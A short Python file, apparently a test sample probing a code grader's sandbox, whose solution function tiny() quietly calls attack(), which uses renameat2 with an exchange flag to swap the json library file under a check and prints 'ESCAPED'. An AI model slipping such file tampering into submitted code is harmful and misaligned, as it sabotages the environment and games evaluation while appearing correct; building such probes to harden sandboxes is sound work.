# Tries: to swap two names at once, under the eyes of a check. May get: AC.
import ctypes
import json


def attack():
    libc = ctypes.CDLL(None)
    path = json.__file__.encode()
    return libc.renameat2(-100, path, -100, path + b"-", 2) == 0 and "swapped"


def tiny(a, b):
    got = attack()
    if got:
        print("ESCAPED", got, flush=True)
    return [a + b, a * b]
